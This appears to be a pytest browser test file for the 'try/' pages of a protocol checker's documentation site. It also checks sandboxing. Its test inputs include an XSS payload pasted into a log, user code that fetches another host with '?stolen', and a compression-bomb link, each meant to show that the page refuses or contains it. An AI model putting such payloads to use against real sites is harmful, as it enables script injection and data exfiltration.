"""`make browser-docs`: `try/` of the site that `make site` builds, used in a headless Chromium from
a static host on the loopback interface. Pictures go to build/browser.
"""

from __future__ import annotations

import base64
import json
import shutil
import time
import zlib
from collections.abc import Iterator
from pathlib import Path

import pytest
from chromium import Chromium, Page
from static_host import Host

from groupcheck.oracles.command_line.tab import answered

ROOT = Path(__file__).parents[2]
SITE = ROOT / "build" / "site"
PICTURES = ROOT / "build" / "browser"
SPEC = (ROOT / "tests/examples/two_phase_commit.py").read_text("utf-8")
MISTAKE = SPEC.replace("evolve(network, prepared=network", "evolve(netwrk, prepared=network")
WRONG = SPEC.replace("len(coordinator.prepared) == scope", "len(coordinator.prepared) >= 1")
MOST_TRANSFERRED = 20_000_000
PHONE = {"width": 390, "height": 844, "mobile": True}
PATIENCE_S = 120  # for a machine with other things to do


@pytest.fixture(scope="module")
def browser() -> Iterator[Chromium]:
    with Chromium() as running:
        yield running


@pytest.fixture(scope="module")
def host() -> Iterator[Host]:
    assert (SITE / "try/python/groupcheck.bin").exists(), "make site builds what is looked at"
    with Host(SITE) as running:
        yield running


def until(page: Page, condition: str) -> None:
    """Waits until an expression over the page is true."""
    end = time.monotonic() + PATIENCE_S
    while not page.run(f"Boolean({condition})"):
        assert time.monotonic() < end, (condition, page.run("document.body.innerText"), page.errors)
        time.sleep(0.1)


def front(page: Page) -> None:
    """Shows the tab: nothing is drawn in one behind others."""
    page.call("Page.bringToFront")
    page.frame()


def text(page: Page, name: str) -> str:
    return str(page.run(f"document.getElementById({name!r}).textContent"))


def times(page: Page) -> str:
    """When Python was ready and the first answer shown, since the visit began, in words."""
    took = "['ready', 'answered'].map((n) => performance.getEntriesByName(n)[0].startTime / 1000)"
    ready, shown = page.run(took)
    return f"ready after {ready:.1f} s, answered after {shown:.1f} s"


def put(page: Page, name: str, value: str) -> None:
    page.run(
        f"(() => {{ const e = document.getElementById({name!r}); e.value = {json.dumps(value)};"
        " e.dispatchEvent(new Event('input')); })()"
    )


def press(page: Page, name: str) -> None:
    page.run(f"document.getElementById({name!r}).click()")
    until(page, "document.getElementById('meter').hidden")


@pytest.fixture(scope="module")
def log(browser: Chromium, host: Host) -> Page:
    """A first visit, by a link to the answer about a sample."""
    address = f"{host.address}try/index.html#1/log/ghost-members"
    page = browser.open(address, width=1280, height=1000, watched=True)
    until(page, "!document.getElementById('answer').hidden")
    return page


@pytest.fixture(scope="module")
def write(browser: Chromium, host: Host, log: Page) -> Page:
    page = browser.open(f"{host.address}try/#1/write/", width=1280, height=1000, watched=True)
    until(page, "performance.getEntriesByName('ready').length")
    return page


def test_a_sample_is_answered_as_on_the_command_line(log: Page, host: Host, tmp_path: Path) -> None:
    told = answered(["replay", "sample:ghost-members"], tmp_path)
    assert text(log, "out") == told.out
    assert text(log, "code") == f"trouble (exit code {told.code})"
    assert log.run(
        "document.getElementById('page').srcdoc.includes('198 members were removed together')"
    )
    front(log)
    log.run("document.getElementById('answer').scrollIntoView()")
    log.frame()
    log.picture(PICTURES / "try-log.png")
    assert log.errors == []
    until(log, "navigator.serviceWorker.controller")
    print(f"first: {times(log)}, {sum(size for _, size in host.sent):,} bytes")
    assert sum(size for _, size in host.sent) < MOST_TRANSFERRED


def test_no_request_leaves_the_site_and_none_is_made_after_loading(log: Page, host: Host) -> None:
    until(log, "navigator.serviceWorker.controller")
    before, sent = len(log.requests), len(host.sent)
    assert any(address.endswith("/try/python/pyodide.asm.wasm") for address in log.requests)
    put(log, "pasted", "[2024-05-01 10:00:00,123] INFO [GroupCoordinator 0]: Stabilized group g"
        " generation 1 (__consumer_offsets-0) with 1 members"
        " (kafka.coordinator.group.GroupCoordinator)\n")  # fmt: skip
    press(log, "replay")
    assert "group g" in text(log, "out")
    assert (log.requests[before:], host.sent[sent:]) == ([], [])
    own = (host.address, f"blob:{host.address}")
    assert [address for address in log.requests if not address.startswith(own)] == []


def test_code_in_a_protocol_reaches_no_other_host(write: Page) -> None:
    with Host(SITE) as other:
        asks = f"import js\n\njs.fetch('{other.address}?stolen')\n"
        put(write, "text", asks + SPEC)
        press(write, "check")
        until(write, "document.getElementById('code').textContent.startsWith('holds')")
        write.run("new Promise((done) => setTimeout(done, 500))")
        assert other.sent == []
    assert any("Content Security Policy" in told for told in write.errors)
    write.errors.clear()


LASTING = """
import js

def lasting(name):
    owner = there = getattr(js, name)
    while js.Boolean(owner):
        for one in js.Reflect.ownKeys(owner):
            try:
                value = js.Reflect.get(owner, one, there)
            except Exception:
                continue  # a getter of another object
            kind = js.Object.prototype.toString.call(value)
            if any(word in kind for word in (
                "Cache", "IDB", "Storage", "Lock", "ServiceWorker", "FileSystem", "CookieStore",
            )) or str(one) in ("Worker", "SharedWorker", "BroadcastChannel"):
                yield f"{name}.{one}"
            if "ileSystem" in str(one) and str(one)[0].islower():
                yield f"{name}.{one}"
        owner = js.Object.getPrototypeOf(owner)

found = sorted({*lasting("self"), *lasting("navigator")})
if found:
    raise ValueError(f"found {found}")
"""


def test_code_in_a_protocol_can_keep_nothing(write: Page) -> None:
    put(write, "text", LASTING + SPEC)
    press(write, "check")
    assert text(write, "error") == ""
    assert text(write, "code") == "holds (exit code 0)"


def test_a_hostile_log_stays_text(log: Page, tmp_path: Path) -> None:
    hurt = "<img src=x onerror=parent.hurt=1><script>parent.hurt=1</script>"
    line = (
        f"[2024-05-01 10:00:00,123] INFO [GroupCoordinator 0]: Preparing to rebalance group {hurt}"
        " in state PreparingRebalance with old generation 5 (__consumer_offsets-1) (reason:"
        f" {hurt}) (kafka.coordinator.group.GroupCoordinator)\n"
    )
    put(log, "pasted", line * 3)
    press(log, "replay")
    assert "parent.hurt" in log.run("document.getElementById('page').srcdoc")
    front(log)
    assert log.run("window.hurt") is None
    # The frame is of another origin: the page cannot even look into it, nor it into the page.
    assert log.run("document.getElementById('page').contentDocument") is None
    (tmp_path / "pasted.log").write_text(line * 3)
    assert text(log, "out") == answered(["replay", "pasted.log"], tmp_path).out


def test_bad_input_is_refused_as_on_the_command_line(log: Page, tmp_path: Path) -> None:
    put(log, "pasted", "")
    press(log, "replay")
    (tmp_path / "pasted.log").touch()
    told = answered(["replay", "pasted.log"], tmp_path)
    assert (text(log, "error"), log.run("document.getElementById('out').hidden")) == (
        told.err, True,
    )  # fmt: skip
    assert told.code == 2 and text(log, "code").endswith("(exit code 2)")


def test_files_of_a_folder_are_read_packed_and_by_their_names(log: Page, tmp_path: Path) -> None:
    folder = tmp_path / "logs"
    folder.mkdir()
    shutil.copyfile(ROOT / "tests/data/requests/live-poll_timeout.log.gz", folder / "r.log.gz")
    shutil.copyfile(ROOT / "tests/data/clients/poll_timeout.b.log.gz", folder / "-c.log.gz")
    files = {p.name: base64.b64encode(p.read_bytes()).decode() for p in folder.iterdir()}
    # As an input has them after a choice; the test cannot choose a folder.
    log.run(
        f"""(() => {{
            const chosen = new DataTransfer();
            for (const [name, text] of Object.entries({json.dumps(files)})) {{
                const bytes = Uint8Array.from(atob(text), (c) => c.charCodeAt(0));
                chosen.items.add(new File([bytes], name));
            }}
            const input = document.getElementById('files');
            input.files = chosen.files;
            input.dispatchEvent(new Event('change'));
        }})()"""
    )
    until(log, "document.getElementById('sample-told').textContent.startsWith('2 file')")
    until(
        log, "document.getElementById('meter').hidden && !document.getElementById('answer').hidden"
    )
    names = ["./-c.log.gz" if name.startswith("-") else name for name in files]
    told = answered(["replay", "--", *names], folder)
    assert told.code in (0, 1) and text(log, "out") == told.out


def test_a_mistake_is_shown_at_its_line_and_mended_it_holds(write: Page) -> None:
    put(write, "text", MISTAKE)
    press(write, "check")
    marked = "document.querySelector('#numbers .at')?.textContent"
    line = MISTAKE[: MISTAKE.index("netwrk")].count("\n") + 1
    assert "name 'netwrk' is not defined" in text(write, "error")
    assert write.run(marked) == str(line)
    front(write)
    write.picture(PICTURES / "try-mistake.png")
    there = write.run(
        "['#numbers .at', '#numbers', '#text'].map((name) => {"
        " const r = document.querySelector(name).getBoundingClientRect();"
        " return [r.top, r.bottom]; })"
    )
    (top, bottom), (numbers, end), area = there
    assert numbers < top < bottom < end and [numbers, end] == area
    put(write, "text", SPEC)
    assert write.run(marked) is None
    press(write, "check")
    assert text(write, "code") == "holds (exit code 0)"
    assert "288 (1,145 transitions, 11 levels)" in text(write, "out")
    put(write, "text", WRONG)
    press(write, "check")
    assert text(write, "code") == "violated (exit code 1)"
    front(write)
    write.run("document.getElementById('answer').scrollIntoView()")
    write.frame()
    write.picture(PICTURES / "try-violated.png")
    assert write.errors == []


def test_a_link_holds_the_text_and_runs_nothing(write: Page, browser: Chromium, host: Host) -> None:
    put(write, "text", WRONG)
    write.run("document.getElementById('share').click()")
    until(write, "document.getElementById('shared').textContent")
    address = write.run("location.href")
    assert len(address) < 2_000
    opened = browser.open(address, **PHONE)
    until(opened, "!document.getElementById('from-link').hidden")
    assert opened.run("document.getElementById('text').value") == WRONG
    until(opened, "performance.getEntriesByName('ready').length")
    assert opened.run("document.getElementById('answer').hidden")
    opened.picture(PICTURES / "try-phone.png")
    assert opened.run("document.documentElement.scrollWidth") == PHONE["width"]
    assert opened.errors == []
    opened.call("Page.close")


def test_a_walk_is_gone_in_its_frame_and_its_link_opens_it(browser: Chromium, host: Host) -> None:
    page = browser.open(f"{host.address}try/#1/walk/", width=1280, height=1000)
    until(page, "document.getElementById('variants').options.length > 10")
    put(page, "options", "--members 2")
    page.run("document.getElementById('begin').click()")
    until(page, "location.hash.startsWith('#1/walk/v=')")
    begin = page.run("location.hash")
    front(page)
    page.run("document.getElementById('page').focus()")
    page.call("Input.dispatchKeyEvent", type="keyDown", key="1", text="1")
    until(page, f"location.hash.startsWith({begin!r} + '.')")
    page.run("scrollTo(0, 0)")
    page.frame()
    page.picture(PICTURES / "try-walk.png")
    address = page.run("location.href")
    assert page.errors == []
    page.call("Page.close")
    again = browser.open(address, scheme="dark", **PHONE)
    until(again, "!document.getElementById('answer').hidden")
    assert again.run("location.href") == address and text(again, "code") == "a walk"
    again.run("document.getElementById('page').scrollIntoView()")
    again.frame()
    again.picture(PICTURES / "try-walk-phone.png")
    assert again.run("document.documentElement.scrollWidth") == PHONE["width"]
    assert again.errors == []
    again.call("Page.close")


def test_a_link_to_a_walk_of_one_s_own_holds_the_text_and_the_state(
    browser: Chromium, host: Host
) -> None:
    page = browser.open(f"{host.address}try/#1/write/", width=1280, height=1000)
    until(page, "document.getElementById('examples').options.length > 2")
    page.run("document.getElementById('walk-it').click()")
    until(page, "document.getElementById('code').textContent.startsWith('a walk')")
    # What the page of the walk tells after a step, and when its button for a link is pressed.
    for data in ("{ link: 'v=1&of=x&key=gc1-0.0' }", "{ copy: true }"):
        source = "document.getElementById('page').contentWindow"
        page.run(
            f"dispatchEvent(new MessageEvent('message', {{ source: {source}, data: {data} }}))"
        )
    until(page, "location.hash.startsWith('#1/write/')")
    until(page, "location.hash.length > 100")
    address = page.run("location.href")
    page.call("Page.close")
    again = browser.open(address)
    until(again, "!document.getElementById('from-link').hidden")
    assert not again.run("document.getElementById('at-state').hidden")
    until(again, "performance.getEntriesByName('ready').length")
    assert again.run("document.getElementById('answer').hidden")  # nothing runs by itself
    again.run("document.getElementById('walk-it').click()")
    until(again, "document.getElementById('code').textContent.startsWith('a walk')")
    srcdoc = "document.getElementById('page').srcdoc"
    assert again.run(f'/"key": ?"gc1-0\\.0"/.test({srcdoc})')
    assert again.errors == []
    again.call("Page.close")


def test_stop_ends_a_search_and_python_starts_again(write: Page) -> None:
    put(write, "text", SPEC)
    put(write, "settings", "managers=9")
    write.run("document.getElementById('check').click()")
    until(write, "document.getElementById('progress').textContent.includes('states')")
    write.run("document.getElementById('stop').click()")
    assert write.run("document.getElementById('meter').hidden")
    put(write, "settings", "managers=2")
    press(write, "check")
    assert text(write, "code") == "holds (exit code 0)"


def test_a_phone_reads_a_log(browser: Chromium, host: Host, log: Page) -> None:
    page = browser.open(f"{host.address}try/#1/log/zombie", scheme="dark", **PHONE)
    until(page, "!document.getElementById('answer').hidden")
    page.picture(PICTURES / "try-log-phone.png")
    assert page.run("document.documentElement.scrollWidth") == PHONE["width"]
    assert page.errors == []
    page.call("Page.close")


def test_a_link_to_nothing_says_so(log: Page, browser: Chromium, host: Host) -> None:
    told = "document.getElementById('state').textContent"
    for link, said in (
        ("#1/constructor", "The link is of another version"),
        ("#1/log/nobody", "There is no such sample."),
        ("#1/write/AAAA", "The link is damaged"),
        (f"#1/write/{bomb()}", "The link is damaged"),
    ):
        page = browser.open(f"{host.address}try/{link}")
        until(page, "performance.getEntriesByName('ready').length")
        until(page, f"{told}.startsWith({said!r})")
        assert page.errors == []
        page.call("Page.close")


def bomb() -> str:
    """A link's text of 90 kB: a protocol of 64 MB of spaces."""
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    parts = [b'{"name":"a","settings":"","text":"', *[b" " * (1 << 20)] * 64, b'"}']
    packed = b"".join(map(packer.compress, parts)) + packer.flush()
    return base64.urlsafe_b64encode(packed).decode().rstrip("=")


def test_a_folder_that_cannot_be_read_says_so(log: Page) -> None:
    log.run(
        """(() => {
            const entry = { name: "logs", isFile: false, createReader: () => ({
                readEntries: (done, failed) => failed(new Error("no right to read")) }) };
            const event = new Event("drop", { bubbles: true });
            event.dataTransfer = { types: ["Files"], items: [{ webkitGetAsEntry: () => entry }] };
            dispatchEvent(event);
        })()"""
    )
    until(log, "document.getElementById('state').textContent.includes('no right to read')")
    assert log.errors == []


def test_a_later_visit_transfers_nothing_and_is_ready_for_a_log(
    browser: Chromium, log: Page, host: Host, tmp_path: Path
) -> None:
    until(log, "navigator.serviceWorker.controller")
    registered = "navigator.serviceWorker.getRegistration().then((one) => one.updateViaCache)"
    assert log.run(registered) == "none"
    sent = len(host.sent)
    page = browser.open(f"{host.address}try/index.html")
    until(page, "performance.getEntriesByName('ready').length")
    line = (
        "[2024-05-01 10:00:00,123] INFO [GroupCoordinator 0]: Stabilized group later generation 1"
        " (__consumer_offsets-0) with 1 members (kafka.coordinator.group.GroupCoordinator)\n"
    )
    put(page, "pasted", line)
    press(page, "replay")
    (tmp_path / "pasted.log").write_text(line)
    assert text(page, "out") == answered(["replay", "pasted.log"], tmp_path).out
    assert page.errors == []
    print(f"later: {times(page)}")
    # What browsers ask to see whether there is a new version.
    renewed = ("/try/sw.js", "/try/files.js")
    assert [path for path, _ in host.sent[sent:] if path not in renewed] == []
